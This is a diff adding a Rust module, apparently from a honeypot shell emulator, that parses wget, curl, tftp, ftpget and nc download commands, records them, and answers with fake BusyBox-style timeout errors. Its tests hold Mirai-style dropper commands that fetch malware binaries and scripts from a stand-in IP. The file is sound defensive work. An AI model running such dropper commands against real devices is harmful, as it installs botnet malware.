@@ -1,0 +1,383 @@
+//! Download commands: `wget`, `curl`, `tftp`, `ftpget`, `nc`.
+//!
+//! Each is parsed the way the real tool parses its arguments (BusyBox and the
+//! common non-BusyBox spellings), recorded as an [`Effect::Download`], and
+//! answered with the tool's own words. The shell never fetches anything: the
+//! downloader acts on the effect.
+
+use super::lossy;
+use crate::exec::Io;
+use crate::{Effect, Shell};
+
+/// A parsed download command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Request {
+    pub url: String,
+    pub tool: &'static str,
+    /// A path, or `-` for stdout.
+    pub dest: String,
+    pub host: String,
+    pub port: u16,
+    pub quiet: bool,
+}
+
+fn s(a: &[u8]) -> String {
+    lossy(a).into_owned()
+}
+
+/// `scheme://[user@]host[:port]/path` → (host, port, path).
+fn split_url(url: &str, default_port: u16) -> (String, u16, String) {
+    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
+    let (authority, path) = match rest.find('/') {
+        Some(i) => (&rest[..i], &rest[i..]),
+        None => (rest, "/"),
+    };
+    let authority = authority.rsplit('@').next().unwrap_or(authority);
+    let (host, port) = if let Some(v6) = authority.strip_prefix('[') {
+        match v6.split_once(']') {
+            Some((h, p)) => (h.to_string(), p.strip_prefix(':').and_then(|p| p.parse().ok())),
+            None => (v6.to_string(), None),
+        }
+    } else {
+        match authority.rsplit_once(':') {
+            Some((h, p)) => (h.to_string(), p.parse().ok()),
+            None => (authority.to_string(), None),
+        }
+    };
+    (host, port.unwrap_or(default_port), path.to_string())
+}
+
+fn file_name(path: &str) -> String {
+    let p = path.split(['?', '#']).next().unwrap_or(path);
+    match p.rsplit('/').next() {
+        Some(n) if !n.is_empty() => n.to_string(),
+        _ => "index.html".into(),
+    }
+}
+
+fn parse_wget(argv: &[Vec<u8>]) -> Option<Request> {
+    let mut dest = None;
+    let mut quiet = false;
+    let mut prefix = None;
+    let mut url = None;
+    let mut i = 1;
+    while i < argv.len() {
+        let a = s(&argv[i]);
+        let value = |i: &mut usize| {
+            *i += 1;
+            argv.get(*i).map(|v| s(v))
+        };
+        match a.as_str() {
+            "-O" | "--output-document" => dest = value(&mut i),
+            "-P" | "--directory-prefix" => prefix = value(&mut i),
+            "-U" | "--user-agent" | "-T" | "-t" | "--header" | "-Y" | "-o" | "-e" => {
+                value(&mut i);
+            }
+            "-q" | "--quiet" => quiet = true,
+            _ if a.starts_with("-O") && a.len() > 2 => dest = Some(a[2..].to_string()),
+            _ if a.starts_with("--output-document=") => dest = Some(a["--output-document=".len()..].to_string()),
+            _ if a.starts_with('-') => quiet |= a.starts_with("-q") || (a.contains('q') && !a.starts_with("--")),
+            _ => {
+                if url.is_none() {
+                    url = Some(a)
+                }
+            }
+        }
+        i += 1;
+    }
+    let url = url?;
+    let url = if url.contains("://") { url } else { format!("http://{url}") };
+    let default_port = if url.starts_with("https://") { 443 } else if url.starts_with("ftp://") { 21 } else { 80 };
+    let (host, port, path) = split_url(&url, default_port);
+    let dest = dest.unwrap_or_else(|| file_name(&path));
+    let dest = match prefix {
+        Some(p) if dest != "-" => format!("{}/{}", p.trim_end_matches('/'), dest),
+        _ => dest,
+    };
+    Some(Request { url, tool: "wget", dest, host, port, quiet })
+}
+
+fn parse_curl(argv: &[Vec<u8>]) -> Option<Request> {
+    let mut dest = "-".to_string();
+    let mut remote_name = false;
+    let mut quiet = false;
+    let mut url = None;
+    let mut i = 1;
+    while i < argv.len() {
+        let a = s(&argv[i]);
+        match a.as_str() {
+            "-o" | "--output" => {
+                i += 1;
+                dest = argv.get(i).map(|v| s(v)).unwrap_or(dest);
+            }
+            "-O" | "--remote-name" => remote_name = true,
+            "-A" | "--user-agent" | "-H" | "--header" | "-m" | "--max-time" | "-d" | "--data" | "-X" | "-e" | "-u" | "--connect-timeout" | "--retry" => i += 1,
+            _ if a.starts_with("--") => quiet |= a == "--silent",
+            _ if a.starts_with('-') => {
+                quiet |= a.contains('s');
+                remote_name |= a.contains('O');
+            }
+            _ => {
+                if url.is_none() {
+                    url = Some(a)
+                }
+            }
+        }
+        i += 1;
+    }
+    let url = url?;
+    let url = if url.contains("://") { url } else { format!("http://{url}") };
+    let default_port = if url.starts_with("https://") { 443 } else { 80 };
+    let (host, port, path) = split_url(&url, default_port);
+    if remote_name {
+        dest = file_name(&path);
+    }
+    Some(Request { url, tool: "curl", dest, host, port, quiet })
+}
+
+/// BusyBox `tftp [-g|-p] [-l LOCAL] [-r REMOTE] [-b SIZE] HOST [PORT]` and
+/// tftp-hpa `tftp [-m MODE] HOST [PORT] -c get REMOTE [LOCAL]`.
+fn parse_tftp(argv: &[Vec<u8>]) -> Option<Request> {
+    let mut local = None;
+    let mut remote = None;
+    let mut get = false;
+    let mut positional = Vec::new();
+    let mut i = 1;
+    while i < argv.len() {
+        let a = s(&argv[i]);
+        match a.as_str() {
+            "-g" => get = true,
+            "-p" => get = false,
+            "-l" => {
+                i += 1;
+                local = argv.get(i).map(|v| s(v));
+            }
+            "-r" => {
+                i += 1;
+                remote = argv.get(i).map(|v| s(v));
+            }
+            "-b" | "-m" => i += 1,
+            "-c" => {
+                // tftp-hpa: -c get REMOTE [LOCAL]
+                let cmd = argv.get(i + 1).map(|v| s(v)).unwrap_or_default();
+                if cmd == "get" {
+                    get = true;
+                    remote = argv.get(i + 2).map(|v| s(v));
+                    local = argv.get(i + 3).map(|v| s(v)).or(local);
+                }
+                break;
+            }
+            _ if a.starts_with("-g") || a.starts_with("-r") || a.starts_with("-l") => {
+                // Combined forms like -gr FILE.
+                let takes: Vec<char> = a[1..].chars().collect();
+                for c in takes {
+                    match c {
+                        'g' => get = true,
+                        'r' => {
+                            i += 1;
+                            remote = argv.get(i).map(|v| s(v));
+                        }
+                        'l' => {
+                            i += 1;
+                            local = argv.get(i).map(|v| s(v));
+                        }
+                        _ => {}
+                    }
+                }
+            }
+            _ if a.starts_with('-') => {}
+            _ => positional.push(a),
+        }
+        i += 1;
+    }
+    let _ = get;
+    let host = positional.first()?.clone();
+    let port = positional.get(1).and_then(|p| p.parse().ok()).unwrap_or(69);
+    let remote = remote.or_else(|| local.clone())?;
+    let dest = local.unwrap_or_else(|| file_name(&remote));
+    let url = if port == 69 {
+        format!("tftp://{host}/{}", remote.trim_start_matches('/'))
+    } else {
+        format!("tftp://{host}:{port}/{}", remote.trim_start_matches('/'))
+    };
+    Some(Request { url, tool: "tftp", dest, host, port, quiet: false })
+}
+
+/// `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE`.
+fn parse_ftpget(argv: &[Vec<u8>]) -> Option<Request> {
+    let mut user = None;
+    let mut pass = None;
+    let mut port = 21;
+    let mut positional = Vec::new();
+    let mut i = 1;
+    while i < argv.len() {
+        let a = s(&argv[i]);
+        match a.as_str() {
+            "-u" | "--username" => {
+                i += 1;
+                user = argv.get(i).map(|v| s(v));
+            }
+            "-p" | "--password" => {
+                i += 1;
+                pass = argv.get(i).map(|v| s(v));
+            }
+            "-P" | "--port" => {
+                i += 1;
+                port = argv.get(i).and_then(|v| s(v).parse().ok()).unwrap_or(21);
+            }
+            _ if a.starts_with('-') => {}
+            _ => positional.push(a),
+        }
+        i += 1;
+    }
+    let host = positional.first()?.clone();
+    let (local, remote) = match positional.len() {
+        2 => (file_name(&positional[1]), positional[1].clone()),
+        n if n >= 3 => (positional[1].clone(), positional[2].clone()),
+        _ => return None,
+    };
+    let creds = match (user, pass) {
+        (Some(u), Some(p)) => format!("{u}:{p}@"),
+        (Some(u), None) => format!("{u}@"),
+        _ => String::new(),
+    };
+    let port_part = if port == 21 { String::new() } else { format!(":{port}") };
+    let url = format!("ftp://{creds}{host}{port_part}/{}", remote.trim_start_matches('/'));
+    Some(Request { url, tool: "ftpget", dest: local, host, port, quiet: false })
+}
+
+/// `nc HOST PORT` (with the output redirected to a file: a download).
+fn parse_nc(argv: &[Vec<u8>]) -> Option<Request> {
+    let mut positional = Vec::new();
+    let mut i = 1;
+    while i < argv.len() {
+        let a = s(&argv[i]);
+        match a.as_str() {
+            "-e" | "-w" | "-p" | "-s" | "-i" | "-q" => i += 1,
+            _ if a.starts_with('-') => {}
+            _ => positional.push(a),
+        }
+        i += 1;
+    }
+    let host = positional.first()?.clone();
+    let port: u16 = positional.get(1)?.parse().ok()?;
+    Some(Request { url: format!("tcp://{host}:{port}"), tool: "nc", dest: "-".into(), host, port, quiet: true })
+}
+
+fn parse(tool: &str, argv: &[Vec<u8>]) -> Option<Request> {
+    match tool {
+        "wget" => parse_wget(argv),
+        "curl" => parse_curl(argv),
+        "tftp" => parse_tftp(argv),
+        "ftpget" => parse_ftpget(argv),
+        "nc" | "netcat" => parse_nc(argv),
+        _ => None,
+    }
+}
+
+fn record(sh: &mut Shell, r: &Request) {
+    sh.effect(Effect::Download {
+        url: r.url.clone(),
+        tool: r.tool,
+        dest: r.dest.clone(),
+    });
+}
+
+/// Record a download the device could not even attempt (tool not found).
+pub(crate) fn record_intent(sh: &mut Shell, name: &str, argv: &[Vec<u8>]) {
+    if let Some(r) = parse(crate::vfs::basename(name), argv) {
+        record(sh, &r);
+    }
+}
+
+pub(crate) fn wget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
+    let Some(r) = parse_wget(argv) else {
+        sh.err(io, b"BusyBox v1.19.4 multi-call binary.\n\nUsage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[--no-check-certificate] [-U|--user-agent AGENT] [-T SEC] URL...\n");
+        return 1;
+    };
+    record(sh, &r);
+    if !r.quiet {
+        let line = format!("Connecting to {}:{} ({}:{})\n", r.host, r.port, r.host, r.port);
+        sh.err(io, line.as_bytes());
+    }
+    let msg = format!("wget: can't connect to remote host ({}): Connection timed out\n", r.host);
+    sh.err(io, msg.as_bytes());
+    1
+}
+
+pub(crate) fn curl(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
+    let Some(r) = parse_curl(argv) else {
+        sh.err(io, b"curl: try 'curl --help' or 'curl --manual' for more information\n");
+        return 2;
+    };
+    record(sh, &r);
+    if !r.quiet {
+        let msg = format!("curl: (7) Failed to connect to {} port {}: Connection timed out\n", r.host, r.port);
+        sh.err(io, msg.as_bytes());
+    }
+    7
+}
+
+pub(crate) fn tftp(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
+    let Some(r) = parse_tftp(argv) else {
+        sh.err(io, b"BusyBox v1.19.4 multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n");
+        return 1;
+    };
+    record(sh, &r);
+    sh.err(io, b"tftp: timeout\n");
+    1
+}
+
+pub(crate) fn ftpget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
+    let Some(r) = parse_ftpget(argv) else {
+        sh.err(io, b"BusyBox v1.19.4 multi-call binary.\n\nUsage: ftpget [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n");
+        return 1;
+    };
+    record(sh, &r);
+    let msg = format!("ftpget: can't connect to remote host ({}): Connection timed out\n", r.host);
+    sh.err(io, msg.as_bytes());
+    1
+}
+
+pub(crate) fn nc(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
+    match parse_nc(argv) {
+        Some(r) => {
+            record(sh, &r);
+            1
+        }
+        None => {
+            sh.err(io, b"BusyBox v1.19.4 multi-call binary.\n\nUsage: nc [-iN] [-wN] [-l] [-p PORT] [-f FILE|IPADDR PORT] [-e PROG]\n");
+            1
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn argv(s: &str) -> Vec<Vec<u8>> {
+        s.split_whitespace().map(|w| w.as_bytes().to_vec()).collect()
+    }
+
+    #[test]
+    fn tool_syntaxes() {
+        let r = parse_wget(&argv("wget http://1.2.3.4:8080/bins/mirai.arm -O - ")).unwrap();
+        assert_eq!((r.url.as_str(), r.dest.as_str(), r.port), ("http://1.2.3.4:8080/bins/mirai.arm", "-", 8080));
+        let r = parse_wget(&argv("wget -q 1.2.3.4/x.sh")).unwrap();
+        assert_eq!((r.url.as_str(), r.dest.as_str(), r.quiet), ("http://1.2.3.4/x.sh", "x.sh", true));
+        let r = parse_tftp(&argv("tftp -g -l dvrHelper -r mirai.arm7 1.2.3.4")).unwrap();
+        assert_eq!((r.url.as_str(), r.dest.as_str()), ("tftp://1.2.3.4/mirai.arm7", "dvrHelper"));
+        let r = parse_tftp(&argv("tftp 1.2.3.4 -c get t8UsA2.sh")).unwrap();
+        assert_eq!((r.url.as_str(), r.dest.as_str()), ("tftp://1.2.3.4/t8UsA2.sh", "t8UsA2.sh"));
+        let r = parse_tftp(&argv("tftp -r x.sh -g 1.2.3.4 6969")).unwrap();
+        assert_eq!(r.url, "tftp://1.2.3.4:6969/x.sh");
+        let r = parse_ftpget(&argv("ftpget -v -u anonymous -p anonymous -P 2121 1.2.3.4 ftp1.sh ftp1.sh")).unwrap();
+        assert_eq!((r.url.as_str(), r.dest.as_str()), ("ftp://anonymous:anonymous@1.2.3.4:2121/ftp1.sh", "ftp1.sh"));
+        let r = parse_curl(&argv("curl -sO http://[2001:db8::1]:81/a/b.sh")).unwrap();
+        assert_eq!((r.host.as_str(), r.port, r.dest.as_str()), ("2001:db8::1", 81, "b.sh"));
+        let r = parse_nc(&argv("nc 1.2.3.4 3912")).unwrap();
+        assert_eq!(r.url, "tcp://1.2.3.4:3912");
+        assert!(parse_wget(&argv("wget")).is_none());
+    }
+}
